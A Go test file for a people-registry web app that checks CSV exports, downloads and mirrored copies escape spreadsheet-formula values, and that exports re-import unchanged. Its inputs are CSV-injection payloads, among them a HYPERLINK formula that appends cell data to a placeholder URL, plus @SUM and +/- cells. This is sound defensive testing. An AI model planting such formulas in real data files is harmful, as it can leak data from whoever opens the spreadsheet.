package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rollcall/internal/auth"
	"rollcall/internal/intake"
	"rollcall/internal/publish"
	"rollcall/internal/registry"
	"rollcall/internal/store"
	"rollcall/internal/store/storetest"
)

// formulaCell tells whether a spreadsheet would run the cell: it begins
// with one of OWASP's characters and is not a plain negative number.
func formulaCell(c string) bool {
	if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
		return false
	}
	if c[0] == '-' && len(c) > 1 && strings.Trim(c[1:], "0123456789.") == "" && strings.Count(c, ".") <= 1 {
		return false
	}
	return true
}

// A name that is a spreadsheet formula, sent through the public report
// form and made a (then verified) record, reaches no CSV we write as a
// formula: the full and public exports, the public download, the mirror's
// copy of it. The full export imported again changes nothing, and the
// record's fields read back as they were sent.
func TestNoFormulaInAnyCSV(t *testing.T) {
	const name = `=HYPERLINK("http://x"&A2,"Open")`
	formulas := map[string]string{"name": name, "name_alt": "+Azamat Qurbanov", "region": "@SUM(A1:A9)", "place": "-2+3"}
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		site, a := workspaceSite(t, st)
		f := aReport(name)
		for k, v := range formulas {
			f.Set(k, v)
		}
		f.Del("age")
		f.Set("birth_year", "1990")
		if w := postFrom(t, site, "/en/report/", f, "192.0.2.7:1"); w.Code != http.StatusSeeOther {
			t.Fatalf("report: %d %.300s", w.Code, w.Body.String())
		}
		rep := openReports(t, st, "")[0]
		ed := signIn(t, site, a, auth.Editor)
		if w := ed.post(t, site, "/admin/reports/"+rep.ID+"/record", nil); w.Code != http.StatusSeeOther {
			t.Fatalf("make a record: %d", w.Code)
		}
		var claimID, recordID string
		st.EachClaim(ctx, func(c store.ClaimRow) error {
			if c.Record.SourceKey == store.PublicReportsSource {
				claimID, recordID = c.Claim.ID, c.Record.ID
			}
			return nil
		})
		if _, err := st.SetVerification(ctx, ed.User.ID, claimID, registry.Verified); err != nil {
			t.Fatal(err)
		}
		// The family agreed: an editor marks the person public, so the
		// name reaches every CSV we write.
		person, err := st.PersonOf(ctx, recordID)
		if err != nil {
			t.Fatal(err)
		}
		if err := st.MarkWithConsent(ctx, ed.User.ID, person, registry.MarkPublic, "the family agreed",
			registry.Consent{GivenBy: "the mother", Given: 20220801, How: "in writing"}); err != nil {
			t.Fatal(err)
		}
		if _, err := st.RefreshPublic(ctx); err != nil {
			t.Fatal(err)
		}

		outputs := map[string][]byte{}
		for _, public := range []bool{false, true} {
			var b bytes.Buffer
			if err := publish.Export(ctx, st, &b, publish.ExportOptions{Format: "csv", Public: public}); err != nil {
				t.Fatal(err)
			}
			outputs["export public="+map[bool]string{false: "no", true: "yes"}[public]] = b.Bytes()
		}
		w := (*session)(nil).get(t, site, "/data/rollcall-people.csv")
		outputs["/data/rollcall-people.csv"] = w.Body.Bytes()
		mirror := filepath.Join(t.TempDir(), "mirror")
		if _, err := publish.Mirror(ctx, site, mirror, publish.MirrorOptions{Roots: []string{"/data/rollcall-people.csv"}}); err != nil {
			t.Fatal(err)
		}
		filepath.WalkDir(mirror, func(p string, d os.DirEntry, err error) error {
			if err == nil && strings.HasSuffix(p, ".csv") {
				outputs[p], _ = os.ReadFile(p)
			}
			return err
		})
		if len(outputs) < 4 {
			t.Fatalf("only %d CSV outputs: %v", len(outputs), outputs)
		}
		for where, body := range outputs {
			rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", where, err)
			}
			if !bytes.Contains(body, []byte(`'=HYPERLINK(`)) {
				t.Errorf("%s does not show the name, escaped: %.500s", where, body)
			}
			for _, row := range rows {
				for _, c := range row {
					if formulaCell(c) {
						t.Errorf("%s has the cell %q", where, c)
					}
				}
			}
		}

		// Export → import: the same claims, unchanged.
		full := outputs["export public=no"]
		rows, _ := csv.NewReader(bytes.NewReader(full)).ReadAll()
		var again bytes.Buffer
		cw := csv.NewWriter(&again)
		for _, row := range rows {
			cw.Write(row[1:]) // without person, as docs/interchange.md says
		}
		cw.Flush()
		file := filepath.Join(t.TempDir(), "again.csv")
		os.WriteFile(file, again.Bytes(), 0o600)
		sum, err := intake.ImportFile(ctx, st, file, intake.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if sum.ClaimsNew != 0 || sum.RecordsNew != 0 || sum.ClaimsUnchanged == 0 {
			t.Errorf("importing the export again changed something: %+v", sum)
		}
		r, err := intake.NewReader(bytes.NewReader(again.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for {
			row, err := r.Next()
			if err != nil {
				break
			}
			if row.Record.SourceKey != store.PublicReportsSource {
				continue
			}
			found = true
			if row.Record.Name != name || strings.Join(row.Record.NameAlt, ";") != formulas["name_alt"] || row.Record.Region != formulas["region"] ||
				row.Claim.Place != formulas["place"] {
				t.Errorf("read back %+v", row)
			}
		}
		if !found {
			t.Error("the report's record is not in the export")
		}
	})
}
